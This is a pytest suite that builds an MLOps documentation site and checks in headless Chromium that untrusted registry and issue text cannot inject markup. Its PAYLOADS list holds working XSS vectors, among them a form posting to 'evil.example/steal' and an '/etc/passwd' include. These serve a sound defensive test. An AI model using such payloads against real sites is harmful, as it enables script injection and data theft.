"""The site: built for real by MkDocs (and Zensical), checked in headless Chromium, safe for untrusted text."""

from __future__ import annotations

import copy
import functools
import http.server
import json
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from bot.config import load_config
from bot.records.forms import forms, render_body
from bot.records.registry import read_registry
from bot.site.render import markdown_filter, render_site, safe_url
from bot.site.snapshot import issue_entry, merge, read_snapshot
from tests.helpers import BOT_TOKEN, run_cli

ROOT = Path(__file__).resolve().parents[1]
ARTIFACTS = ROOT / "test-artifacts"
CHROMIUM = "/usr/bin/chromium"

PAYLOADS = [
    "<script>alert('s1')</script>",
    "<img id=pwned2 src=x onerror=alert('s2')>",
    "<svg id=pwned3 onload=alert('s3')>",
    "[click me](javascript:alert('s4'))",
    "<a id=pwned5 href=\"javascript:alert('s5')\">x</a>",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgnczYnKTwvc2NyaXB0Pg==)",
    "<iframe id=pwned7 src=\"data:text/html,<script>alert('s7')</script>\"></iframe>",
    '<form id=pwned8 action="https://evil.example/steal"><input name=p></form>',
    "<style>body{display:none}</style>",
    '"><script>alert("s10")</script>',
    "'><img id=pwned11 src=x onerror=alert('s11')>",
    '<div markdown="1" id=pwned12>**x**</div>',
    '--8<-- "/etc/passwd"',
    "{: onclick=\"alert('s14')\" }",
    "<details id=pwned15 open ontoggle=alert('s15')>",
    "<a href='https://ok.example' style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</a>",
]
HOSTILE = " ".join(PAYLOADS)


def live_markup(html: str) -> list[str]:
    """Elements and attributes in `html` that could run or reshape the page (escaped text does not count)."""
    found: list[str] = []

    class Scan(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ("script", "iframe", "form", "style", "object", "embed", "input"):
                found.append(tag)
            for name, value in attrs:
                value = (value or "").strip().lower()
                if name.startswith("on") or name in ("style", "markdown", "srcdoc"):
                    found.append(f"{tag}[{name}]")
                if name in ("href", "src", "action") and value.startswith(("javascript:", "data:")):
                    found.append(f"{tag}[{name}={value[:20]}]")
                if name == "id" and value.startswith("pwned"):
                    found.append(f"{tag}#{value}")

    Scan().feed(html)
    return found


# ---- builds ----------------------------------------------------------------------------------------------
def project(tmp_path: Path, registry: Path, snapshot: Path | None) -> Path:
    """A team repository: mkdocs.yml, the hand-written pages, and a configuration naming the data."""
    site = tmp_path / "project"
    site.mkdir()
    shutil.copytree(ROOT / "site_src", site / "site_src", ignore=shutil.ignore_patterns("generated"))
    (site / "mkdocs.yml").write_text(
        (ROOT / "mkdocs.yml").read_text().replace("config: sample/mlops.yml", "config: mlops.yml")
    )
    config = yaml.safe_load((ROOT / "sample" / "mlops.yml").read_text())
    config["registry"] = {"path": str(registry)}
    config["monitoring"] = {"status_dir": str(ROOT / "sample" / "monitoring")}
    config["site"] = {"title": "Test", "snapshot": str(snapshot) if snapshot else "missing.json"}
    (site / "mlops.yml").write_text(yaml.safe_dump(config))
    return site


def build(site: Path) -> None:
    result = run_cli(["site", "build", "--config", "mlops.yml"], cwd=site, timeout=300)
    assert result.code == 0, result.stderr + result.stdout


@pytest.fixture(scope="module")
def sample_site(tmp_path_factory) -> Path:
    site = project(tmp_path_factory.mktemp("sample"), ROOT / "sample" / "registry", ROOT / "sample" / "snapshot.json")
    build(site)
    return site / "site"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    registry = base / "registry"
    source = yaml.safe_load((ROOT / "sample/registry/churn-classifier/2.0.0.yml").read_text())
    model = copy.deepcopy(source)
    model.update(
        task=HOSTILE,
        owner=HOSTILE,
        description=HOSTILE,
        metrics={HOSTILE[:60]: 0.5, "auc": 0.8},
        headline_metric=HOSTILE[:60],
    )
    model["model_card"] = {key: HOSTILE for key in ("intended_use", "out_of_scope_use", "limitations", "risks")}
    model["model_card"]["evaluation_slices"] = [{"name": HOSTILE, "metrics": {HOSTILE[:40]: 1.0}}]
    model["stage_history"] = [{"stage": "candidate", "date": "2026-01-02", "by": HOSTILE, "note": HOSTILE}]
    model["signature"]["inputs"][0]["name"] = HOSTILE
    model["provenance"]["dataset_snapshot_uri"] = HOSTILE
    (registry / "churn-classifier").mkdir(parents=True)
    (registry / "churn-classifier" / "2.0.0.yml").write_text(yaml.safe_dump(model))
    config = load_config(ROOT / "sample" / "mlops.yml", environ={})
    values = {field.id: HOSTILE for field in forms()["experiment"].fields}
    values["outcome"] = "Promote to production"
    raws = [
        {
            "repository": "acme/ml-platform",
            "number": n,
            "title": HOSTILE,
            "url": "javascript:alert('url')",
            "state": "open",
            "body": render_body(forms()["experiment"], values) + f"\n\n### {HOSTILE}\n\n{HOSTILE}",
            "created_at": "2026-05-01T10:00:00Z",
            "updated_at": "2026-05-02T10:00:00Z",
            "closed_at": None,
            "author": HOSTILE,
            "milestone": {"title": HOSTILE, "number": 1, "due_on": None},
            "labels": ["ml-experiment", HOSTILE[:50]],
        }
        for n in (1, 2)
    ]
    raws.append(
        {
            **raws[0],
            "number": 3,
            "labels": ["ml-deployment", "<b>label</b>"],
            "body": render_body(forms()["deployment"], {f.id: HOSTILE for f in forms()["deployment"].fields}),
        }
    )
    snapshot = merge(
        None,
        [issue_entry(raw, config) for raw in raws],
        ["acme/ml-platform"],
        "2026-11-01T00:00:00Z",
        "https://github.com",
    )
    (base / "snapshot.json").write_text(json.dumps(snapshot))
    site = project(base, registry, base / "snapshot.json")
    build(site)
    return site / "site"


def test_sample_site_has_every_section(sample_site):
    for page in (
        "index.html",
        "generated/models/index.html",
        "generated/models/churn-classifier/index.html",
        "generated/experiments/index.html",
        "generated/experiments/2026-05/index.html",
        "generated/board/index.html",
        "generated/metrics/index.html",
        "runbooks/deployment/index.html",
        "runbooks/monitoring/index.html",
        "runbooks/retraining/index.html",
        "tags/index.html",
    ):
        assert (sample_site / page).is_file(), page
    monitoring = (sample_site / "runbooks/monitoring/index.html").read_text()
    assert "above 200 ms" in monitoring and "5 consecutive minutes" in monitoring  # from the configuration
    catalog = (sample_site / "generated/models/index.html").read_text()
    assert "within thresholds" in catalog and "1 breach" in catalog and "open incident" in catalog
    churn = (sample_site / "generated/models/churn-classifier/index.html").read_text()
    assert 'id="monitoring"' in churn and "PSI of tenure_months" in churn
    metrics_page = (sample_site / "generated/metrics/index.html").read_text()
    assert metrics_page.count('<svg class="mlops-chart"') == 5


def test_nothing_a_reader_needs_comes_from_a_cdn(sample_site):
    for page in sample_site.rglob("*.html"):
        text = page.read_text()
        external = re.findall(r'(?:src|href)="(https?://[^"]+)"', text)
        loaded = [url for url in external if re.search(r"\.(css|js|woff2?)(\?|$)", url)]
        assert loaded == [], page


# ---- pure rendering -----------------------------------------------------------------------------------------
def test_user_markdown_is_sanitized():
    html = str(markdown_filter(HOSTILE + "\n\n**bold** [ok](https://example.com)"))
    assert live_markup(html) == []
    assert "<strong>bold</strong>" in html and 'href="https://example.com"' in html


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://github.com/a/b/issues/1", "https://github.com/a/b/issues/1"),
        ("javascript:alert(1)", "#"),
        ("data:text/html,x", "#"),
        ('https://x.example/"onmouseover="alert(1)', "#"),
        ("", "#"),
    ],
)
def test_only_http_urls_survive(url, expected):
    assert safe_url(url) == expected


def test_generated_pages_carry_no_live_markup_from_user_text(hostile_site):
    pages = render_site(
        *read_registry(hostile_site.parent / ".." / "registry")[:1],
        read_snapshot(hostile_site.parent.parent / "snapshot.json"),
        load_config(hostile_site.parent / "mlops.yml", environ={}),
    )
    for path, text in pages.items():
        assert live_markup(text) == [], path


# ---- in a real browser ---------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def browser() -> Iterator:
    if not Path(CHROMIUM).exists():
        pytest.fail("Debian's chromium is missing: run tools/install-system-deps.sh")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking"],
        )
        yield chromium
        chromium.close()


def serve(folder: Path) -> tuple[http.server.ThreadingHTTPServer, str]:
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


def visit(browser, url: str, screenshot: str | None = None, dark: bool = False) -> dict:
    page = browser.new_page(viewport={"width": 1280, "height": 900}, color_scheme="dark" if dark else "light")
    seen = {"dialogs": [], "errors": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: message.type == "error" and seen["errors"].append(message.text))
    page.on("pageerror", lambda error: seen["errors"].append(str(error)))
    page.goto(url, wait_until="load")
    page.wait_for_timeout(150)
    seen["injected"] = page.evaluate("""() => {
        const bad = [];
        document.querySelectorAll('[id^=pwned], iframe, form[action*=evil], a[href^="javascript:"], [src^="data:"]')
          .forEach(e => bad.push(e.outerHTML.slice(0, 80)));
        document.querySelectorAll('*').forEach(e => { for (const a of e.attributes)
          if (/^on/i.test(a.name)) bad.push(e.tagName + ' ' + a.name); });
        document.querySelectorAll('article style, .md-content style').forEach(e => bad.push('style'));
        return bad; }""")
    seen["text"] = page.inner_text("article") if page.query_selector("article") else ""
    if screenshot:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / screenshot), full_page=False)
    page.close()
    return seen


def test_sample_pages_render_in_chromium(sample_site, browser):
    server, base = serve(sample_site)
    try:
        checks = {
            "generated/models/": ("catalog.png", "churn-classifier"),
            "generated/models/churn-classifier/": ("model.png", "Provenance"),
            "generated/experiments/": ("experiments.png", "Experiment log"),
            "generated/experiments/2026-05/": ("experiments-month.png", "Hypothesis"),
            "generated/board/": ("board.png", "Deployment"),
            "generated/metrics/": ("metrics.png", "Work mix per milestone"),
        }
        for path, (shot, expected) in checks.items():
            seen = visit(browser, f"{base}/{path}", shot)
            assert seen["errors"] == [] and seen["dialogs"] == [] and seen["injected"] == [], (path, seen)
            assert expected in seen["text"], path
        dark = visit(browser, f"{base}/generated/metrics/", "metrics-dark.png", dark=True)
        assert dark["errors"] == []
    finally:
        server.shutdown()


def test_experiment_filters_work_in_the_browser(sample_site, browser):
    server, base = serve(sample_site)
    try:
        page = browser.new_page()
        page.goto(f"{base}/generated/experiments/2026-05/")
        total = page.locator("article.mlops-experiment").count()
        page.select_option("select[data-filter=outcome]", "abandon")
        shown = page.locator("article.mlops-experiment:visible").count()
        assert 0 < shown < total
        assert all(
            a.get_attribute("data-outcome") == "abandon" for a in page.locator("article.mlops-experiment:visible").all()
        )
        page.close()
    finally:
        server.shutdown()


def test_hostile_text_never_runs_in_the_browser(hostile_site, browser):
    server, base = serve(hostile_site)
    try:
        pages = sorted(p.relative_to(hostile_site).parent.as_posix() for p in hostile_site.rglob("index.html"))
        assert len(pages) >= 10
        for path in pages:
            seen = visit(browser, f"{base}/{path}/".replace("/./", "/"))
            assert seen["dialogs"] == [], (path, seen["dialogs"])
            assert seen["injected"] == [], (path, seen["injected"])
            assert seen["errors"] == [], (path, seen["errors"])
            assert "root:x:0:0" not in seen["text"]
        visit(browser, f"{base}/generated/experiments/2026-05/", "hostile-experiments.png")
    finally:
        server.shutdown()


# ---- Zensical -------------------------------------------------------------------------------------------------
def test_zensical_builds_the_same_pages_without_the_plugin(tmp_path):
    site = project(tmp_path, ROOT / "sample" / "registry", ROOT / "sample" / "snapshot.json")
    generated = run_cli(["site", "generate", "--config", "mlops.yml"], cwd=site)
    assert generated.code == 0, generated.stderr
    zensical = shutil.which("zensical", path=str(Path(sys.executable).parent))
    done = subprocess.run(
        [zensical, "build", "-f", "mkdocs.yml"], cwd=site, capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 0, done.stdout + done.stderr
    out = site / "site"
    for page in (
        "index.html",
        "generated/models/index.html",
        "generated/models/fraud-detector/index.html",
        "generated/experiments/index.html",
        "generated/board/index.html",
        "generated/metrics/index.html",
    ):
        assert (out / page).is_file(), page
    assert "above 200 ms" in (out / "runbooks/monitoring/index.html").read_text()


# ---- snapshot -------------------------------------------------------------------------------------------------
def test_snapshot_fetches_then_only_what_changed(github, tmp_path):
    state = github.state
    repo = state.repo("acme/ml-platform")
    experiment = forms()["experiment"]
    for n in range(120):
        state.issue(
            repo,
            f"Experiment {n}",
            labels=("ml-experiment",) if n % 2 else ("ml-deployment",),
            body=render_body(experiment, {"hypothesis": "If we a, then b improves because c.", "dataset": "d"}),
        )
    state.issue(repo, "unrelated", labels=("documentation",))
    (tmp_path / "mlops.yml").write_text("repositories: [acme/ml-platform]\nsite: {snapshot: snap.json}\n")
    first = run_cli(["snapshot", "--config", "mlops.yml", "--format", "json"], cwd=tmp_path, env=github.env(BOT_TOKEN))
    assert first.code == 0, first.stderr
    assert first.json()["issues"] == 120 and first.json()["requests"] == 3  # 50 to a page
    data = json.loads((tmp_path / "snap.json").read_text())
    assert {i["kind"] for i in data["issues"]} == {"experiment", "deployment"}
    assert data["issues"][1]["record"]["fields"]["dataset"] == "d" and data["issues"][1]["stage"] == "Active"
    import datetime as dt

    later = dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)
    changed = repo.issues[7]
    changed.title, changed.updated_at = "Renamed", later
    for issue in repo.issues.values():
        if issue is not changed:
            issue.updated_at = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    second = run_cli(["snapshot", "--config", "mlops.yml", "--format", "json"], cwd=tmp_path, env=github.env(BOT_TOKEN))
    assert second.code == 0 and second.json()["fetched"] == 1 and second.json()["incremental"] is True
    data = json.loads((tmp_path / "snap.json").read_text())
    assert len(data["issues"]) == 120 and next(i for i in data["issues"] if i["number"] == 7)["title"] == "Renamed"


def test_a_corrupt_snapshot_is_named(tmp_path):
    (tmp_path / "snap.json").write_text('{"version": 1, "issues": "nope"}')
    (tmp_path / "mlops.yml").write_text("repositories: [a/b]\nsite: {snapshot: snap.json}\nregistry: {path: r}\n")
    (tmp_path / "mkdocs.yml").write_text("docs_dir: docs\n")
    result = run_cli(["site", "generate", "--config", "mlops.yml"], cwd=tmp_path)
    assert result.code == 1 and result.stderr.startswith("error: snap.json")


# ---- the MkDocs plugin ----------------------------------------------------------------------------------------
def test_plugin_generates_before_each_build_and_watches_its_sources(tmp_path, monkeypatch):
    from mkdocs.config import load_config as load_mkdocs_config

    site = project(tmp_path, ROOT / "sample" / "registry", ROOT / "sample" / "snapshot.json")
    monkeypatch.chdir(site)
    monkeypatch.delenv("MLOPS_CONFIG", raising=False)
    config = load_mkdocs_config(str(site / "mkdocs.yml"))
    plugin = config.plugins["mlops"]
    plugin.on_pre_build(config=config)
    assert (site / "site_src" / "generated" / "models" / "index.md").is_file()

    from mkdocs.livereload import LiveReloadServer

    server = LiveReloadServer(builder=lambda: None, host="127.0.0.1", port=0, root=str(tmp_path))
    server.watch(config["docs_dir"])  # as `mkdocs serve` does before the plugin's turn
    server = plugin.on_serve(server, config=config, builder=None)
    docs = site / "site_src"
    sources = {str(ROOT / "sample" / path) for path in ("registry", "snapshot.json", "monitoring")}
    assert set(server._watched_paths) == {str(docs), str(docs / "assets"), str(docs / "runbooks")} | sources
